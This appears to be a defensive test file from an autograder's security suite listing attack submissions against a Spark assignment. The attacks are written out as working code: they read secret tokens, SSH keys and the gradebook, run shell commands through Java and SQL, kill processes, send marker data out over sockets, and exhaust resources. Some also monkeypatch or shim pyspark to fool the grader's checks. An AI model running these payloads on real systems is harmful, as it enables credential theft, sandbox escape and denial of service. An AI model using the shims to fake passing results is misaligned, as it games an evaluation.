"""S: Spark. A Java process of the student's own beside the Python one, and claims about a plan."""

from __future__ import annotations

from tests.attacks.kit import Attack, Submission, Win
from tests.attacks.scene import Seen

_SESSION = """\
from shardwork import lab
spark = lab.spark()
sc = spark.sparkContext
jvm = sc._jvm
"""


def _spark(id_: str, title: str, wins: set[Win], *, answer: str = "", **more: object) -> Attack:
    """Return an attack on `key_product`: `answer` is its cell, honest and wrong if empty."""
    cells = {name: more.pop(name) for name in ("before", "after") if name in more}
    answers = {"key_product": answer} if answer else {}
    submission = Submission(answers, **cells)  # type: ignore[arg-type]
    return Attack(
        id_, title, wins, submission, assignment="spark", budget_s=360, needs=("java",), **more
    )  # type: ignore[arg-type]


def _noise(seen: Seen) -> list[tuple[Win, str]]:
    record = seen.record
    size = sum(len(cell.text) + len(cell.error) for cell in record.cells) if record else 0
    return [(Win.RES, f"{size} characters of output on record")] if size > (1 << 20) else []


_ENVIRONMENT = ("JUPYTERHUB_API_TOKEN", "AWS_SECRET_ACCESS_KEY", "LMS_TOKEN")

ATTACKS = [
    _spark(
        "S01", "reads the environment by static Java functions of SQL",
        {Win.PROOF}, sample=True,
        before=(
            _SESSION + f"for name in {_ENVIRONMENT!r}:\n"
            "    for f in ('reflect', 'java_method', 'try_reflect'):\n        try:\n"
            "            found(spark.sql(f\"SELECT {f}('java.lang.System', 'getenv', '{name}')\")"
            ".collect())\n        except Exception as e:\n            print(type(e).__name__)\n"
            "system = jvm.java.lang.System\n"
            "found(dict(system.getenv()), str(system.getProperties()))\n",
        ),
    ),
    _spark(
        "S01b", "ends Java by a static function of SQL, in the called function",
        {Win.STALL, Win.BATCH},
        answer="def key_product(rdd):\n"
        "    from pyspark.sql import SparkSession\n    spark = SparkSession.getActiveSession()\n"
        "    spark.sql(\"SELECT reflect('java.lang.Runtime', 'getRuntime')\").collect()\n"
        "    spark.sql(\"SELECT java_method('java.lang.System', 'exit', 0)\").collect()\n"
        "    return rdd",
    ),
    _spark(
        "S01c", "sets properties of Java that the next session would read",
        {Win.BATCH, Win.ESC},
        before=(
            _SESSION + "for name, value in {'spark.master': 'nonsense', 'java.io.tmpdir': '/none', "
            "'user.home': '@HOME@', 'spark.driver.host': '10.0.0.1'}.items():\n"
            "    spark.sql(f\"SELECT java_method('java.lang.System', 'setProperty', '{name}', "
            "'{value}')\").collect()\n"
            "from pyspark import SparkConf\n"
            "import os\nos.makedirs(os.path.expanduser('~/.ivy2'), exist_ok=True)\n"
            "open('/tmp/spark-defaults.conf', 'w').write('spark.master nonsense')\n",
        ),
    ),
    _spark(
        "S02", "has Java start programs: one writes to the host, one stays",
        {Win.ESC, Win.LEFT},
        before=(
            _SESSION + "run = jvm.java.lang.Runtime.getRuntime()\n"
            "for command in ('touch @ESC_FILE@', 'mkdir -p @COURSE@/graders/@MARK@', "
            "'setsid -f sleep 601 @MARK@', 'cp /bin/sleep /tmp/@MARK@sleep', "
            "'setsid -f /tmp/@MARK@sleep 602'):\n"
            "    try:\n        run.exec(command).waitFor()\n"
            "    except Exception as e:\n        print(str(e)[:200])\n",
        ),
    ),
    _spark(
        "S02b", "reads the course, the home and other processes through Java",
        {Win.PROOF},
        before=(
            _SESSION + "paths = ['@HOME@/notes.txt', '@HOME@/.ssh/id_rsa', "
            "'@COURSE@/gradebook.db', '@COURSE@/graders/spark/test_key_product.py', "
            "'@COURSE@/submitted/a-right/spark/spark.ipynb', '/proc/1/environ', "
            "'/proc/self/environ', '/proc/self/mountinfo']\n"
            "files = jvm.java.nio.file.Files\n"
            "none = sc._gateway.new_array(jvm.java.lang.String, 0)\n"
            "for path in paths:\n    try:\n"
            "        place = jvm.java.nio.file.Path.of(path, none)\n"
            "        found(bytes(files.readAllBytes(place)))\n"
            "    except Exception as e:\n        print(type(e).__name__)\n"
            "for folder in ('file:@COURSE@/*/*', 'file:@HOME@/*', 'file:@HOME@/.ssh'):\n    try:\n"
            "        found(spark.read.text(folder).collect())\n"
            "        found(sc.wholeTextFiles(folder).collect())\n"
            "    except Exception as e:\n        print(type(e).__name__)\n",
        ),
    ),
    _spark(
        "S02c", "has Java kill every process that it can see",
        {Win.BATCH, Win.STALL},
        answer="def key_product(rdd):\n"
        "    jvm = rdd.ctx._jvm\n"
        "    for p in list(jvm.java.lang.ProcessHandle.allProcesses().toList()):\n"
        "        try:\n            p.destroyForcibly()\n"
        "        except Exception:\n            pass\n"
        "    jvm.java.lang.Runtime.getRuntime().exec('kill -9 -1')\n"
        "    jvm.java.lang.Runtime.getRuntime().halt(1)\n    return rdd",
    ),
    _spark(
        "S02d", "writes to the host with Spark's own writers, and adds files of the host",
        {Win.ESC, Win.PROOF},
        before=(
            _SESSION + "def attempt(f):\n    try:\n        return f()\n"
            "    except Exception as e:\n        print(type(e).__name__)\n"
            "rows = spark.range(3)\n"
            "attempt(lambda: rows.write.text('file:@COURSE@/submitted/@MARK@'))\n"
            "attempt(lambda: rows.write.json('file:@HOME@/@MARK@json'))\n"
            "attempt(lambda: rows.write.parquet('file:@ESC_FILE@'))\n"
            "attempt(lambda: sc.addFile('@HOME@/notes.txt'))\n"
            "attempt(lambda: sc.addPyFile('@COURSE@/graders/spark/test_key_product.py'))\n"
            "attempt(lambda: spark.sql(\"ADD FILE '@HOME@/notes.txt'\"))\n"
            "attempt(lambda: sc.setCheckpointDir('file:@COURSE@/@MARK@'))\n"
            "attempt(lambda: sc.parallelize(range(3)).saveAsTextFile('file:@REPO@/@MARK@'))\n"
            "read = lambda _: open('@HOME@/notes.txt').read()\n"
            "attempt(lambda: found(sc.parallelize([0]).map(read).collect()))\n",
        ),
    ),
    _spark(
        "S02e", "has Java and a task talk to the outside",
        {Win.ESC},
        before=(
            _SESSION + "for host in @SINK_HOSTS@:\n    try:\n"
            "        s = jvm.java.net.Socket()\n"
            "        s.connect(jvm.java.net.InetSocketAddress(host, @SINK_PORT@), 500)\n"
            "        s.getOutputStream().write(bytearray(b'@MARK@ java'))\n        s.close()\n"
            "    except Exception as e:\n        print(str(e)[:100])\n"
            "def call(host):\n    import socket\n    try:\n"
            "        with socket.create_connection((host, @SINK_PORT@), 0.5) as s:\n"
            "            s.sendall(b'@MARK@ task')\n"
            "    except OSError as e:\n        return str(e)\n"
            "print(sc.parallelize(@SINK_HOSTS@, 2).map(call).collect())\n",
        ),
    ),
    _spark(
        "S03", "transforms rows by a shell that reads the course and writes to the host",
        {Win.ESC, Win.PROOF},
        before=(
            _SESSION + "scripts = ['cat @COURSE@/graders/spark/test_key_product.py "
            "@HOME@/notes.txt', 'touch @ESC_FILE@', 'env', 'setsid -f sleep 603 @MARK@']\n"
            "for script in scripts:\n    try:\n"
            "        query = f\"SELECT TRANSFORM(id) USING '{script}' AS (line string)\"\n"
            "        found(spark.sql(query + ' FROM range(1)').collect())\n"
            "    except Exception as e:\n        print(type(e).__name__, str(e)[:200])\n",
        ),
    ),
    _spark(
        "S05", "stops the session and ends Java in the called function",
        {Win.STALL, Win.BATCH},
        answer="def key_product(rdd):\n    context = rdd.ctx\n    jvm = context._jvm\n"
        "    context.stop()\n    jvm.java.lang.System.exit(0)\n    return rdd",
    ),
    _spark(
        "S05b", "kills Java from Python, and lets the gateway's port answer nothing",
        {Win.STALL, Win.BATCH},
        answer="import os, signal, socket\ndef key_product(rdd):\n"
        "    from pyspark import SparkContext\n    gateway = SparkContext._gateway\n"
        "    port = gateway.gateway_parameters.port\n"
        "    gateway.proc.kill()\n    gateway.proc.wait()\n"
        "    quiet = socket.create_server(('127.0.0.1', port), reuse_port=True)\n"
        "    globals()['quiet'] = quiet\n    return rdd",
    ),
    _spark(
        "S05c", "stops Java without ending it",
        {Win.STALL},
        answer="import os, signal\ndef key_product(rdd):\n"
        "    from pyspark import SparkContext\n"
        "    os.kill(SparkContext._gateway.proc.pid, signal.SIGSTOP)\n    return rdd",
    ),
    _spark(
        "S06", "ends the Python worker in every task",
        {Win.STALL},
        answer="import os\ndef key_product(rdd):\n"
        "    return rdd.map(lambda pair: os._exit(1))",
    ),
    _spark(
        "S06b", "its tasks never end, and neither do their children",
        {Win.STALL, Win.LEFT},
        answer="def key_product(rdd):\n    def task(pair):\n"
        "        import os, signal, time\n        signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "        if os.fork() == 0:\n            os.setsid()\n"
        "        while True:\n            time.sleep(1)\n"
        "    return rdd.map(task)",
    ),
    _spark(
        "S06c", "a function of SQL leaves by sys.exit, and retries are many",
        {Win.STALL},
        before=("import os\nos.environ['SHARDWORK_SPARK_MASTER'] = 'local[2,1000]'\n",),
        answer="def key_product(rdd):\n    import sys\n"
        "    return rdd.map(lambda pair: sys.exit(3))",
    ),
    _spark(
        "S08", "replaces collect, explain and rdd, and everything that compares",
        {Win.SCORE},
        answer="def key_product(rdd):\n    from pyspark import RDD\n"
        "    from pyspark.sql import DataFrame\n"
        "    class Always(list):\n        __eq__ = lambda self, other: True\n"
        "        __lt__ = lambda self, other: True\n        __hash__ = None\n"
        "    RDD.collect = lambda self: Always([('a', 10)])\n"
        "    RDD.glom = lambda self: self\n    DataFrame.collect = RDD.collect\n"
        "    DataFrame.explain = lambda self, *a, **k: print('Exchange')\n"
        "    DataFrame.rdd = property(lambda self: rdd)\n"
        "    return rdd",
    ),
    _spark(
        "S08b", "puts a shim in the place of pyspark",
        {Win.SCORE},
        answer="import sys, types\nclass Shim(types.ModuleType):\n"
        "    def __getattr__(self, name):\n        return Shim(name)\n"
        "    def __call__(self, *a, **k):\n        return self\n"
        "for name in ('pyspark', 'pyspark.sql', 'pyspark.rdd', 'pyspark.core.rdd'):\n"
        "    sys.modules[name] = Shim(name)\n"
        "class RDD(list):\n    __module__ = 'pyspark.core.rdd'\n"
        "    def collect(self):\n        return list(self)\n"
        "def key_product(rdd):\n    products = {}\n"
        "    for key, value in rdd.collect():\n"
        "        products[key] = products.get(key, 1) * value\n    return RDD(products.items())",
    ),
    _spark(
        "S12", "leaves Java, a lock and temporary files behind",
        {Win.LEFT},
        before=(
            _SESSION + "import os, pathlib, subprocess, tempfile\n"
            "java = os.environ.get('JAVA_HOME', '/usr') + '/bin/java'\n"
            "pathlib.Path('/tmp/@MARK@Loop.java').write_text('public class Loop { public '\n"
            "    'static void main(String[] a) throws Exception { Thread.sleep(600000); } }')\n"
            "subprocess.Popen([java, '-Dmark=@MARK@', '/tmp/@MARK@Loop.java'], "
            "start_new_session=True, stdin=subprocess.DEVNULL)\n"
            "for name in ('@MARK@derby.lck', 'spark-@MARK@', 'hsperfdata_@MARK@'):\n"
            "    for folder in (tempfile.gettempdir(), '/dev/shm', '/var/tmp', '.'):\n"
            "        try:\n            pathlib.Path(folder, name).write_text('x')\n"
            "        except OSError as e:\n            print(e)\n"
            "os.environ['SPARK_LOCAL_DIRS'] = '@COURSE@'\n",
        ),
    ),
    _spark(
        "S13", "has Java write 1 GB to its standard error, and log as much",
        {Win.RES, Win.STALL}, detect=_noise,
        before=(
            _SESSION + "line = 'x' * (1 << 20)\nsystem = jvm.java.lang.System\n"
            "for i in range(512):\n    system.err.println(line)\n    system.out.println(line)\n",
            "sc.setLogLevel('ALL')\nfor i in range(30):\n"
            "    sc.parallelize(range(100), 50).count()\n",
        ),
    ),
    _spark(
        "S14", "has Java hold 4 GB outside its heap",
        {Win.RES, Win.STALL},
        before=(
            _SESSION + "held = []\nfor i in range(32):\n"
            "    held.append(jvm.java.nio.ByteBuffer.allocateDirect(128 << 20))\n"
            "    block = bytearray(1 << 20)\n    for _ in range(128):\n"
            "        held[-1].put(block)\n",
        ),
    ),
]  # fmt: skip
